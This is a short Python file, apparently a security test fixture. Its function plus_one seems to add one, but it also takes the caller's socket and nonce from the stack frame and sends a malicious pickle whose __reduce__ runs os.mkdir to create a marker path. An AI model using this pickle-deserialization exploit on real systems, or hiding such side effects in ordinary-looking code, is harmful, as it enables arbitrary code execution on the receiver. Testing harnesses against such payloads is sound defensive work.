"""Sends pickled code as the whole of a reply, with the right nonce.

problem: next
earns: 0
hears: header is not strict JSON
process: same
"""

import os
import pickle
import struct
import sys

TARGETS = {}


class Runs:
    def __reduce__(self):
        return os.mkdir, (os.path.join(TARGETS["folder"], TARGETS["mark"]),)


def plus_one(number):
    caller = sys._getframe(1).f_locals
    data = pickle.dumps(Runs())
    caller["sock"].sendall(struct.pack("<II16s", len(data), len(data), caller["nonce"]) + data * 2)
    return number + 1
